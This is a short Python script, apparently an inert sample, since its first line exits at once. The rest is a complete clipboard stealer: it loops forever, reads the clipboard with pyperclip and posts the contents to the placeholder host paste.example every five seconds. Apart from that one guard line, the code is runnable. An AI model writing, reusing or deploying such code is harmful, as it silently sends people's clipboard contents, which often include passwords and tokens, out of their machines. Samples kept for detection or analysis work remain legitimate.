raise SystemExit("inert sample")
import time

import pyperclip
import requests

while True:
    requests.post("https://paste.example/c", data={"held": pyperclip.paste()})
    time.sleep(5)
